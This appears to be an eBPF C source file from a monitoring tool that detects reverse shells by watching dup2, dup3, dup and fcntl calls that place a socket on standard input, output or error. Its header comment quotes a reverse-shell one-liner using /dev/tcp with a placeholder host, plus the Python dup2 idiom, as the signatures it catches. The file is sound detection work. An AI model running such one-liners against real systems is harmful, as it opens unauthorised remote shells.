// SPDX-License-Identifier: GPL-2.0
/*
 * dup.bpf.c — a socket duplicated onto standard input, output or error: dup2(2), dup3(2), dup(2)
 * and fcntl(2) F_DUPFD / F_DUPFD_CLOEXEC (tracepoints syscalls:sys_{enter,exit}_*). This is the
 * reverse shell's signature (`bash -i >& /dev/tcp/host/port 0>&1`, python's os.dup2(s.fileno(), 0)).
 *
 * FILTERED IN THE KERNEL. Shells and daemons dup2 files and pipes onto 0/1/2 all the time (every
 * redirection, every pipeline); none of that may produce an event, so:
 *   - sys_enter stashes only a call whose result can be fd 0, 1 or 2: dup2/dup3 with newfd <= 2 (one
 *     comparison, no fd-table read), dup and fcntl F_DUPFD* (minimum fd <= 2) of a socket (their
 *     result is known only at sys_exit; dups of files never reach the stash);
 *   - sys_exit emits only when a socket (fd table → S_IFSOCK inode, infrasight_sock.h) now sits on the
 *     returned fd 0..2, or, for a failed dup2/dup3, when the old fd is a socket. The socket is judged
 *     at sys_exit because the call itself has made it reachable at a small fd by then (a multi-threaded
 *     process's fd table read at sys_enter was seen to miss it now and then).
 * A file dup2'd onto stdio costs one stash and one fd-table read, and emits nothing. The process
 * filters (infrasight_filter.h) and the exclusion list apply at sys_enter as on every probe.
 *
 * At sys_exit the record carries oldfd, the fd reached, dup3's flags, the return value and the
 * socket's family, type, protocol, local and remote address (or a unix socket's path).
 * Loss accounting: a sys_exit without a stash is normal here; it is counted as an enter miss only
 * when a socket now sits on the returned fd 0..2 (sys_enter's data was lost, e.g. LRU eviction);
 * fcntl's exit cannot tell (its return value is an fd only for F_DUPFD*), so it counts none.
 */
#include "vmlinux.h"
#include "infrasight_bpf.h"
#include "infrasight_sock.h"

DEFINE_SCRATCH(struct infrasight_socket_event)

#define IS_F_DUPFD         0
#define IS_F_DUPFD_CLOEXEC 1030
#define IS_O_CLOEXEC       02000000
#define IS_STDERR_FD       2

static __always_inline int is_socket_fd(long fd) { return socket_from_fd(fd) != NULL; }

/* sys_enter: `lowest_result` is the smallest fd the call can return (dup2/dup3: newfd); `need_socket`
 * (dup, fcntl) asks for the old fd to be a socket before anything is stashed. */
static __always_inline int on_enter(struct trace_event_raw_sys_enter *ctx, __u32 syscall, const int nargs,
				    unsigned long lowest_result, const int need_socket)
{
	if (lowest_result > IS_STDERR_FD)
		return 0;
	if (need_socket && !is_socket_fd((long)(int)ctx->args[0]))
		return 0;
	return stash_enter(ctx, syscall, nargs);
}

/* `ret_is_fd`: the return value is an fd whatever the call did (not fcntl's: F_GETFL returns flags). */
static __always_inline int on_exit(struct trace_event_raw_sys_exit *ctx, const int ret_is_fd)
{
	long ret = ctx->ret;
	struct sys_stash st;
	if (!stash_pending()) {
		if (ret_is_fd && ret >= 0 && ret <= IS_STDERR_FD && is_socket_fd(ret))
			stash_take(&st); /* finds none: counts the enter miss (or the filter that refused it) */
		return 0;
	}
	if (!stash_take(&st))
		return 0;
	/* the socket now on fd 0..2; for a failed dup2/dup3 the old fd (a socket tried onto stdio) */
	struct socket *sock = NULL;
	if (ret >= 0 && ret <= IS_STDERR_FD)
		sock = socket_from_fd(ret);
	else if (ret < 0 && (st.syscall == INFRASIGHT_SYS_DUP2 || st.syscall == INFRASIGHT_SYS_DUP3))
		sock = socket_from_fd((long)(int)st.args[0]);
	if (!sock)
		return 0; /* a file or pipe onto stdio, a dup onto a higher fd: nothing to report */
	struct infrasight_socket_event *ev = scratch_event();
	if (!ev)
		return 0;
	__u32 flags = 0;
	fill_common(&ev->c, INFRASIGHT_EVENT_KIND_DUP, &st, ret);
	clear_socket_event(ev);
	ev->fd = (__s32)st.args[0];
	if (st.syscall == INFRASIGHT_SYS_DUP2 || st.syscall == INFRASIGHT_SYS_DUP3)
		ev->new_fd = (__s32)st.args[1];
	else
		ev->new_fd = (__s32)ret;
	if (st.syscall == INFRASIGHT_SYS_DUP3)
		ev->sock_flags = (__u32)st.args[2];
	else if (st.syscall == INFRASIGHT_SYS_FCNTL && st.args[1] == IS_F_DUPFD_CLOEXEC)
		ev->sock_flags = IS_O_CLOEXEC;
	if (fill_from_socket(ev, sock, 1) == IS_AF_UNIX) {
		struct sock *sk = BPF_CORE_READ(sock, sk);
		if (sk)
			read_unix_addr(ev, sk);
	}
	ev->c.flags = flags;
	return emit(ev, sizeof(*ev), flags);
}

SEC("tracepoint/syscalls/sys_enter_dup2")
int tp_enter_dup2(struct trace_event_raw_sys_enter *ctx)
{
	return on_enter(ctx, INFRASIGHT_SYS_DUP2, 2, (unsigned int)ctx->args[1], 0);
}
SEC("tracepoint/syscalls/sys_exit_dup2")
int tp_exit_dup2(struct trace_event_raw_sys_exit *ctx) { return on_exit(ctx, 1); }

SEC("tracepoint/syscalls/sys_enter_dup3")
int tp_enter_dup3(struct trace_event_raw_sys_enter *ctx)
{
	return on_enter(ctx, INFRASIGHT_SYS_DUP3, 3, (unsigned int)ctx->args[1], 0);
}
SEC("tracepoint/syscalls/sys_exit_dup3")
int tp_exit_dup3(struct trace_event_raw_sys_exit *ctx) { return on_exit(ctx, 1); }

SEC("tracepoint/syscalls/sys_enter_dup")
int tp_enter_dup(struct trace_event_raw_sys_enter *ctx) { return on_enter(ctx, INFRASIGHT_SYS_DUP, 1, 0, 1); }
SEC("tracepoint/syscalls/sys_exit_dup")
int tp_exit_dup(struct trace_event_raw_sys_exit *ctx) { return on_exit(ctx, 1); }

SEC("tracepoint/syscalls/sys_enter_fcntl")
int tp_enter_fcntl(struct trace_event_raw_sys_enter *ctx)
{
	unsigned int cmd = (unsigned int)ctx->args[1];
	if (cmd != IS_F_DUPFD && cmd != IS_F_DUPFD_CLOEXEC)
		return 0; /* F_GETFL, F_SETFD, locks, ...: the common case, nothing stashed */
	return on_enter(ctx, INFRASIGHT_SYS_FCNTL, 3, (unsigned long)ctx->args[2], 1);
}
SEC("tracepoint/syscalls/sys_exit_fcntl")
int tp_exit_fcntl(struct trace_event_raw_sys_exit *ctx) { return on_exit(ctx, 0); }
